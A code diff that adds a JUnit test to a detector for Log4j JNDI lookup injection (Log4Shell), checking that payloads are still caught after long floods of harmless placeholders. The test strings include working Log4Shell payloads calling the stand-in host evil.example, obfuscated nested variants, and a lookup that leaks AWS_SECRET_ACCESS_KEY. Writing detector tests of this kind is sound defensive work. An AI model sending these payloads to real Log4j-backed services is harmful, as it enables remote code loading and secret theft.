@@ -129,6 +129,18 @@ class JndiDetectorTest {
     assertEquals(detect(flood), detect(flood + "${price}"), "a placeholder after the flood changes nothing");
   }
 
+  @ParameterizedTest
+  @ValueSource(strings = {"${7*7}", "${${a}}", "${IFS}", "${a}:"})
+  void lookupsWithoutAColonKeepTheirTextAndHideNothingBehindThem(String unit) {
+    // a closed lookup without a colon is left as it was, copied without a string of its own
+    String flood = unit.repeat(100_000 / unit.length());
+    assertNull(detect(flood + "${price:-0}"));
+    assertRule("jndi.lookup", 100, flood + "${jndi:ldap://evil.example/a}");
+    assertRule("jndi.nested-lookup", 100, flood + "${${lower:j}ndi:ldap://evil.example/a}");
+    assertRule("jndi.env-exfiltration", 80, flood + "${${env:AWS_SECRET_ACCESS_KEY}}");
+    assertRule("jndi.nested-lookup", 100, "${${a}}".repeat(1000) + "${${::-j}${::-n}di:ldap://evil.example/a}");
+  }
+
   @Test
   void aLookupWhoseResultSpellsALookupIsResolvedAgain() {
     // Log4j substitutes a result again: base64 of "${jndi:ldap://x.example/a}" becomes that lookup
